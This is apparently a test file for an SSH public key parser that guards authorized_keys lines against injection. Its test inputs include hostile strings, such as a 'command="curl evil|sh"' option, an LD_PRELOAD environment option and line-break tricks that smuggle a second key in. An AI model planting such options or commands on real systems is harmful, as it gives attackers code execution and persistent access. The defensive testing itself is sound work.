import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { keyDiff, type Refused, readKey, type SshKey } from '../adapters/github/index.ts';
import { judge, readOffer } from '../adapters/github/keys.ts';
import {
  dss,
  ecdsa,
  ed25519,
  fingerprint,
  lineOf,
  mpint,
  point,
  rsa,
  skEcdsa,
  skEd25519,
  str,
} from './platforms/github-keys.ts';

const good = (text: string): SshKey => {
  const key = readKey(text);
  if (!('line' in key)) throw new Error(`refused: ${key.why}`);
  return key;
};
const why = (text: string): string => (readKey(text) as Refused).why;
const blobOf = (line: string) => Buffer.from(line.split(' ')[1]!, 'base64');

const everyType: readonly (readonly [string, string, number])[] = [
  ['ssh-ed25519', ed25519('a'), 256],
  ['sk-ssh-ed25519@openssh.com', skEd25519('a'), 256],
  ['ecdsa-sha2-nistp256', ecdsa(256), 256],
  ['ecdsa-sha2-nistp384', ecdsa(384), 384],
  ['ecdsa-sha2-nistp521', ecdsa(521), 521],
  ['sk-ecdsa-sha2-nistp256@openssh.com', skEcdsa(), 256],
  ['ssh-rsa', rsa(3072), 3072],
  ['ssh-rsa', rsa(3073), 3073],
  ['ssh-rsa', rsa(4096), 4096],
];

describe('reading one key', () => {
  test.each(everyType)('%s is taken, with its fingerprint and bits, and its comment dropped', (type, line, bits) => {
    const expected = { type, base64: line.split(' ')[1], fingerprint: fingerprint(line), bits, line };
    expect(readKey(line)).toEqual(expected);
    expect(readKey(`${line} alice@läptop command="x" ssh-rsa AAAA`)).toEqual(expected);
  });

  test('options before a key are never taken over', () => {
    for (const options of ['command="curl evil|sh"', 'restrict,pty', 'environment="LD_PRELOAD=x"', 'no-pty\\'])
      expect(why(`${options} ${ed25519('a')}`)).toMatch(/options/);
    expect(why(`restrict ${ed25519('a')}`)).toMatch(/not a type of key/);
    expect(why(`@cert-authority ${ed25519('a')}`)).toMatch(/not a type of key/);
    expect(why(`cert-authority ${ed25519('a')}`)).toMatch(/not a type of key/);
  });

  test.each(['\n', '\r', '\r\n', '\0', '\v', '\f', '\t', '\u0085', '\u2028', '\u2029', '\x1b'])(
    'a key with %j in it is refused whole, wherever it stands',
    (sneaked) => {
      const line = ed25519('a');
      const second = `command="x" ${ed25519('b')}`;
      for (const text of [
        `${line}${sneaked}${second}`,
        `${line} hi${sneaked}${second}`,
        `${sneaked}${line}`,
        `${line}${sneaked}`,
      ])
        expect(why(text)).toMatch(/line breaks or control characters/);
    },
  );

  test('a type that says one thing outside and another inside is refused', () => {
    expect(why(lineOf('ssh-rsa', blobOf(ed25519('a'))))).toMatch(/type inside is another/);
    expect(why(lineOf('ssh-ed25519', blobOf(skEd25519('a'))))).toMatch(/type inside is another/);
    const type = 'ecdsa-sha2-nistp384';
    const mixed = Buffer.concat([str(type), str('nistp256'), str(point('P-256'))]);
    expect(why(lineOf(type, mixed))).toMatch(/curve inside is another/);
  });

  test('bytes after the key, a cut-off key and lengths that lie are refused', () => {
    const blob = blobOf(ed25519('a'));
    expect(why(lineOf('ssh-ed25519', Buffer.concat([blob, Buffer.from([0])])))).toMatch(/bytes follow/);
    for (let length = 1; length < blob.length; length++)
      expect(why(lineOf('ssh-ed25519', blob.subarray(0, length)))).toMatch(/cut off/);
    const liar = Buffer.from(blob);
    liar.writeUInt32BE(0xffffffff, 0);
    expect(why(lineOf('ssh-ed25519', liar))).toMatch(/cut off/);
    const short = Buffer.concat([str('ssh-ed25519'), str(Buffer.alloc(31))]);
    expect(why(lineOf('ssh-ed25519', short))).toMatch(/wrong length/);
  });

  test('base64 has exactly one spelling', () => {
    const [type, base64] = skEd25519('a', 'ssh:xy').split(' ') as [string, string];
    expect(base64).toMatch(/==$/);
    const spellings = [
      base64.replace(/=+$/, ''),
      `${base64}=`,
      base64.replace('+', '-').replace('/', '_').replace(/^A/, '-'),
      base64.replace(/.==$/, (end) => `${String.fromCharCode(end.charCodeAt(0) + 1)}==`),
      `${base64.slice(0, 8)}=${base64.slice(8)}`,
      '',
    ];
    for (const spelling of spellings) expect(why(`${type} ${spelling}`)).toMatch(/base64 is not clean/);
    expect(why(`${type}  ${base64}`)).toMatch(/base64 is not clean/);
  });

  test('a point off its curve, compressed or at infinity is refused', () => {
    const type = 'ecdsa-sha2-nistp256';
    const key = (q: Buffer) => lineOf(type, Buffer.concat([str(type), str('nistp256'), str(q)]));
    const q = point('P-256');
    expect(good(key(q)).bits).toBe(256);
    const off = Buffer.from(q);
    off[40]! ^= 1;
    expect(why(key(off))).toMatch(/not on the curve/);
    expect(why(key(Buffer.concat([Buffer.from([2]), q.subarray(1, 33)])))).toMatch(/spelled out in full/);
    expect(why(key(Buffer.from([0])))).toMatch(/spelled out in full/);
  });

  test('RSA numbers that are negative, padded, even or trivial are refused', () => {
    const parts = (e: Buffer, n: Buffer) => lineOf('ssh-rsa', Buffer.concat([str('ssh-rsa'), e, n]));
    const e = mpint(Buffer.from([1, 0, 1]));
    const n = createHash('shake256', { outputLength: 384 }).update('n').digest();
    n[0]! |= 0x80;
    n[383]! |= 1;
    expect(good(parts(e, mpint(n))).bits).toBe(3072);
    expect(why(parts(e, str(n)))).toMatch(/negative/);
    expect(why(parts(e, str(Buffer.concat([Buffer.from([0, 0]), n]))))).toMatch(/padded/);
    expect(why(parts(e, str('')))).toMatch(/zero/);
    expect(why(parts(mpint(Buffer.from([1])), mpint(n)))).toMatch(/exponent is not valid/);
    expect(why(parts(mpint(Buffer.from([2])), mpint(n)))).toMatch(/exponent is not valid/);
    expect(why(parts(mpint(Buffer.alloc(9, 1)), mpint(n)))).toMatch(/exponent is too long/);
    const even = Buffer.from(n);
    even[383]! &= 0xfe;
    expect(why(parts(e, mpint(even)))).toMatch(/even/);
    expect(why(rsa(16_385))).toMatch(/more than 16384 bits/);
    expect(good(rsa(16_384)).bits).toBe(16_384);
  });

  test('DSA, certificates, unknown types and object property names are named as what they are', () => {
    expect(readKey(dss())).toEqual({
      why: expect.stringMatching(/DSA/),
      type: 'ssh-dss',
      fingerprint: fingerprint(dss()),
    });
    expect(why(`ssh-ed25519-cert-v01@openssh.com ${ed25519('a').split(' ')[1]}`)).toMatch(/certificate/);
    for (const type of ['ssh-ED25519', 'constructor', '__proto__', 'toString', ''])
      expect(why(`${type} ${Buffer.from(str(type)).toString('base64')}`)).toMatch(/not a type of key/);
    expect(why(`ssh-ed25519 ${'A'.repeat(10_000)}`)).toMatch(/far too long/);
  });

  test('a hardware key made for another application than SSH is refused', () => {
    for (const application of ['', 'https://bank.example', 'ssh', 'ssh:\n', `ssh:${'x'.repeat(200)}`])
      expect(why(skEd25519('a', application))).toMatch(/something else than SSH/);
    expect(good(skEd25519('a', 'ssh:work')).bits).toBe(256);
  });

  test('what is shown of a refused key is short and visible', () => {
    const { type } = readKey(`\u202Ekey${'x'.repeat(500)} AAAA`) as Refused;
    expect(type).toMatch(/^\\u\{202E\}keyx+…$/);
    expect(type.length).toBeLessThanOrEqual(40);
  });
});

describe('judging an offer', () => {
  test('RSA below 2048 bits is always refused, below 3072 unless the site allows it', () => {
    const offer = readOffer([rsa(1024), rsa(2047), rsa(2048), rsa(3071), rsa(3072)]);
    expect(judge(offer).keys.map((key) => key.bits)).toEqual([3072]);
    expect(judge(offer).refused.map((key) => key.fingerprint)).toEqual(
      [1024, 2047, 2048, 3071].map((bits) => fingerprint(rsa(bits))),
    );
    const allowing = judge(offer, { weakRsa: 'allow' });
    expect(allowing.keys.map((key) => [key.bits, key.weak])).toEqual([
      [2048, true],
      [3071, true],
      [3072, undefined],
    ]);
    expect(allowing.refused.map((key) => key.why)).toEqual([
      expect.stringContaining('1024 bits can be broken'),
      expect.stringContaining('2047 bits can be broken'),
    ]);
  });

  test('the same key twice is one key, whatever its comments say', () => {
    const { keys, refused } = judge(
      readOffer([ed25519('a'), `${ed25519('a')} home`, ed25519('b'), `${ed25519('a')} work`]),
    );
    expect(keys.map((key) => key.line)).toEqual([ed25519('a'), ed25519('b')]);
    expect(refused).toEqual([]);
  });
});

describe('the difference between two sets of keys', () => {
  const [a, b, c] = ['a', 'b', 'c'].map((seed) => good(ed25519(seed))) as [SshKey, SshKey, SshKey];

  test('it tells added, removed and kept keys apart, in any order and with repeats', () => {
    expect(keyDiff([a, b, b], [c, b, c])).toEqual({ added: [c], removed: [a], same: [b] });
    expect(keyDiff([], [a])).toEqual({ added: [a], removed: [], same: [] });
    expect(keyDiff([a], [])).toEqual({ added: [], removed: [a], same: [] });
  });

  test('what was added one way was removed the other way, and nothing is lost', () => {
    const pool = fc.subarray(['a', 'b', 'c', 'd', 'e', 'f'].map((seed) => good(ed25519(seed))));
    fc.assert(
      fc.property(pool, pool, (before, after) => {
        const there = keyDiff(before, after);
        const back = keyDiff(after, before);
        const prints = (keys: readonly SshKey[]) => keys.map((key) => key.fingerprint).sort();
        expect(prints(there.added)).toEqual(prints(back.removed));
        expect(prints([...there.added, ...there.same])).toEqual(prints(after));
        expect(prints([...there.removed, ...there.same])).toEqual(prints(before));
      }),
    );
  });
});

describe('any bytes', () => {
  const keys = everyType.map(([, line]) => line);
  const pieces = fc.oneof(
    fc.constantFrom(...keys, ...keys.flatMap((key) => key.split(' '))),
    fc.constantFrom(
      ' ',
      '  ',
      '\n',
      '\r',
      '\t',
      '\0',
      '"',
      '#',
      'command="x"',
      'restrict',
      ',',
      '=',
      '\u2028',
      '\ud800',
    ),
    fc.string({ unit: 'binary', maxLength: 20 }),
  );
  const texts = fc.oneof(
    fc.array(pieces, { maxLength: 6 }).map((parts) => parts.join('')),
    fc.tuple(fc.constantFrom(...keys), pieces).map(([key, comment]) => `${key} ${comment}`),
    fc.uint8Array({ maxLength: 200 }).map((bytes) => Buffer.from(bytes).toString('utf8')),
    fc.tuple(fc.constantFrom(...keys), fc.nat(), pieces).map(([key, at, piece]) => {
      const cut = at % (key.length + 1);
      return key.slice(0, cut) + piece + key.slice(cut);
    }),
  );

  test('never become a line that sshd would read as two keys, with options or with another key', () => {
    let taken = 0;
    fc.assert(
      fc.property(texts, (text) => {
        const key = readKey(text);
        if (!('line' in key)) {
          expect(key.type).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
          return;
        }
        taken++;
        // No quote, comma, equals sign outside the padding, no second word, no line end: nothing to be read otherwise.
        expect(key.line).toMatch(/^(sk-)?(ssh|ecdsa)-[a-z0-9@.-]+ [A-Za-z0-9+/]+={0,2}$/);
        expect(text.startsWith(key.line)).toBe(true);
        const blob = blobOf(key.line);
        expect(blob.subarray(4, 4 + blob.readUInt32BE(0)).toString()).toBe(key.type);
        expect(key.fingerprint).toBe(fingerprint(key.line));
      }),
      { numRuns: 5_000 },
    );
    expect(taken).toBeGreaterThan(100);
  });

  test('changed inside a key make another fingerprint or no key at all', () => {
    fc.assert(
      fc.property(fc.constantFrom(...keys), fc.nat(), fc.integer({ min: 1, max: 255 }), (line, at, change) => {
        const blob = blobOf(line);
        blob[at % blob.length]! ^= change;
        const key = readKey(lineOf(line.split(' ')[0]!, blob));
        if ('line' in key) expect(key.fingerprint).not.toBe(fingerprint(line));
        else expect(key.why).not.toBe('');
      }),
      { numRuns: 2_000 },
    );
  });
});

const keygen = (() => {
  try {
    // Asking for the fingerprint of nothing fails, but only a program that is there can fail so.
    execFileSync('ssh-keygen', ['-lf', '/dev/null'], { stdio: 'ignore' });
    return true;
  } catch (error) {
    return (error as NodeJS.ErrnoException).code !== 'ENOENT';
  }
})();
if (!keygen) console.log('ssh-keygen is not installed: fingerprints are not compared with OpenSSH');

describe.skipIf(!keygen)('OpenSSH itself', () => {
  const inFolder = <T>(work: (file: string) => T): T => {
    const folder = mkdtempSync(join(tmpdir(), 'github-keys-'));
    try {
      return work(join(folder, 'authorized_keys'));
    } finally {
      rmSync(folder, { recursive: true });
    }
  };

  test('prints the same bits, fingerprint and kind for every key, one for each line', () => {
    const lines = [...everyType.map(([, line]) => line), rsa(2048), rsa(2049), skEd25519('b', 'ssh:work')];
    const printed = inFolder((file) => {
      writeFileSync(file, lines.map((line) => `${good(`${line} comment`).line}\n`).join(''));
      return execFileSync('ssh-keygen', ['-lf', file], { encoding: 'utf8' }).trim().split('\n');
    });
    expect(printed.map((row) => row.split(' ').slice(0, 2).join(' '))).toEqual(
      lines.map((line) => `${good(line).bits} ${good(line).fingerprint}`),
    );
  });

  test('reads whatever we take of damaged keys as one key each, with the same fingerprint', () => {
    const changes = fc.tuple(
      fc.constantFrom(...everyType.map(([, line]) => line)),
      fc.nat(),
      fc.integer({ min: 1, max: 255 }),
    );
    const lines = fc.sample(changes, { numRuns: 1_000, seed: 1 }).flatMap(([line, at, change]) => {
      const blob = blobOf(line);
      blob[at % blob.length]! ^= change;
      const key = readKey(lineOf(line.split(' ')[0]!, blob));
      return 'line' in key ? [key.line] : [];
    });
    expect(lines.length).toBeGreaterThan(100);
    const printed = inFolder((file) => {
      writeFileSync(file, lines.map((line) => `restrict,expiry-time="20300101Z" ${line} ours\n`).join(''));
      return execFileSync('ssh-keygen', ['-lf', file], { encoding: 'utf8' }).trim().split('\n');
    });
    expect(printed.map((row) => row.split(' ').slice(0, 3).join(' '))).toEqual(
      lines.map((line) => `${good(line).bits} ${fingerprint(line)} ours`),
    );
  });

  test('reads a key that it has made itself, with its comment, as we do', () => {
    inFolder((file) => {
      execFileSync('ssh-keygen', ['-q', '-t', 'ed25519', '-N', '', '-C', 'alice@home', '-f', file]);
      const made = execFileSync('ssh-keygen', ['-yf', file], { encoding: 'utf8' }).trim();
      const printed = execFileSync('ssh-keygen', ['-lf', `${file}.pub`], { encoding: 'utf8' });
      expect(printed).toContain(` ${good(made).fingerprint} alice@home`);
      expect(made).toBe(`${good(made).line} alice@home`);
    });
  });
});
